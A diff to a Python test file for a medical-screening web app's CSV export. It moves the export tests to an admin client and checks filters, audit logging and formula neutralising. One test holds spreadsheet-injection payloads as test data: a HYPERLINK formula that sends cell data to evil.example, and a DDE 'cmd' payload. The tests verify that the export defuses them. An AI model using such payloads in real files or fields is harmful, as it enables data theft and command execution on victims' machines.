@@ -74,11 +74,13 @@ def test_neutralise(value: object, cell: str) -> None:
     assert neutralise(value) == cell
 
 
-def test_export_has_a_header_and_one_row_per_screening(app: Flask, doctor: FlaskClient, ruleset) -> None:
+def test_export_has_a_header_and_one_row_per_screening(
+    app: Flask, doctor: FlaskClient, admin: FlaskClient, ruleset
+) -> None:
     clear = add_screening(app, "Анна Петрова")
     review = add_screening(app, "Boris Ivanov", keloids="unsure", herpes_history="yes")
     decide(doctor, review["reference"], decision="confirm")
-    response = doctor.get("/practitioner/export.csv")
+    response = admin.get("/practitioner/export.csv")
     assert response.status_code == 200
     assert response.mimetype == "text/csv"
     assert response.headers["Content-Disposition"].startswith('attachment; filename="screenings-')
@@ -128,7 +130,7 @@ def test_phone_cells_read_as_typed_and_formulas_stay_neutralised(value: object, 
     assert phone_cell(value) == cell
 
 
-def test_an_override_exports_its_maker_reason_and_comment(app: Flask, doctor: FlaskClient) -> None:
+def test_an_override_exports_its_maker_reason_and_comment(app: Flask, doctor: FlaskClient, admin: FlaskClient) -> None:
     screening = add_screening(app, keloids="unsure")
     decided = decide(
         doctor,
@@ -139,16 +141,16 @@ def test_an_override_exports_its_maker_reason_and_comment(app: Flask, doctor: Fl
         comment="=No keloids; checked the scar on the arm",
     )
     assert decided.status_code == 303
-    (row,) = rows(doctor.get("/practitioner/export.csv"))
+    (row,) = rows(admin.get("/practitioner/export.csv"))
     assert (row["Decision"], row["Decided by"], row["Current decision"]) == ("overridden", NAME, "eligible")
     assert row["Override reason"] == "Clarified with the patient"
     assert row["Comment"] == "'=No keloids; checked the scar on the arm"
 
 
-def test_a_formula_typed_as_a_name_cannot_run(app: Flask, doctor: FlaskClient) -> None:
+def test_a_formula_typed_as_a_name_cannot_run(app: Flask, doctor: FlaskClient, admin: FlaskClient) -> None:
     add_screening(app, '=HYPERLINK("http://evil.example/?"&A1,"Click")')
     add_screening(app, "@SUM(1+1)*cmd|' /C calc'!A0")
-    exported = rows(doctor.get("/practitioner/export.csv"))
+    exported = rows(admin.get("/practitioner/export.csv"))
     names = [r["Patient name"] for r in exported]
     assert names == ["'@SUM(1+1)*cmd|' /C calc'!A0", '\'=HYPERLINK("http://evil.example/?"&A1,"Click")']
     for row in exported:
@@ -166,7 +168,7 @@ def test_a_formula_typed_as_a_name_cannot_run(app: Flask, doctor: FlaskClient) -
     ],
 )
 def test_export_follows_the_queue_filters(
-    app: Flask, doctor: FlaskClient, query_string: dict[str, str], expected: set[str]
+    app: Flask, doctor: FlaskClient, admin: FlaskClient, query_string: dict[str, str], expected: set[str]
 ) -> None:
     made = {
         "clear": add_screening(app, "Anna Petrova"),
@@ -175,30 +177,30 @@ def test_export_follows_the_queue_filters(
     }
     decide(doctor, made["deferred"]["reference"], decision="confirm")
     by_reference = {s["reference"]: key for key, s in made.items()}
-    exported = rows(doctor.get("/practitioner/export.csv", query_string=query_string))
+    exported = rows(admin.get("/practitioner/export.csv", query_string=query_string))
     assert {by_reference[r["Reference"]] for r in exported} == expected
 
 
-def test_export_holds_every_match_not_one_page(app: Flask, doctor: FlaskClient) -> None:
+def test_export_holds_every_match_not_one_page(app: Flask, doctor: FlaskClient, admin: FlaskClient) -> None:
     made = [add_screening(app, f"Patient {i}")["reference"] for i in range(230)]
-    exported = rows(doctor.get("/practitioner/export.csv"))
+    exported = rows(admin.get("/practitioner/export.csv"))
     assert [r["Reference"] for r in exported] == made[::-1]
 
 
-def test_the_queue_links_to_the_export_of_its_filters(app: Flask, doctor: FlaskClient) -> None:
-    html = doctor.get("/practitioner/?status=review&reviewed=no&q=Anna").get_data(as_text=True)
+def test_the_queue_links_to_the_export_of_its_filters(app: Flask, doctor: FlaskClient, admin: FlaskClient) -> None:
+    html = admin.get("/practitioner/?status=review&reviewed=no&q=Anna").get_data(as_text=True)
     assert 'href="/practitioner/export.csv?status=review&amp;reviewed=no&amp;q=Anna"' in html
 
 
-def test_export_is_audited_without_the_search_text(app: Flask, doctor: FlaskClient) -> None:
+def test_export_is_audited_without_the_search_text(app: Flask, doctor: FlaskClient, admin: FlaskClient) -> None:
     add_screening(app, "Anna Petrova")
-    doctor.get("/practitioner/export.csv?q=Petrova&since=2026-01-01")
+    admin.get("/practitioner/export.csv?q=Petrova&since=2026-01-01")
     (row,) = audit_rows(app, "export.csv")
     assert row["details"] == '{"since": "2026-01-01", "search": true}'
     assert "Petrova" not in str(row)
 
 
-def test_export_refuses_bad_filters(app: Flask, doctor: FlaskClient) -> None:
-    response = doctor.get("/practitioner/export.csv?since=someday")
+def test_export_refuses_bad_filters(app: Flask, doctor: FlaskClient, admin: FlaskClient) -> None:
+    response = admin.get("/practitioner/export.csv?since=someday")
     assert response.status_code == 400
     assert audit_rows(app, "export.csv") == []
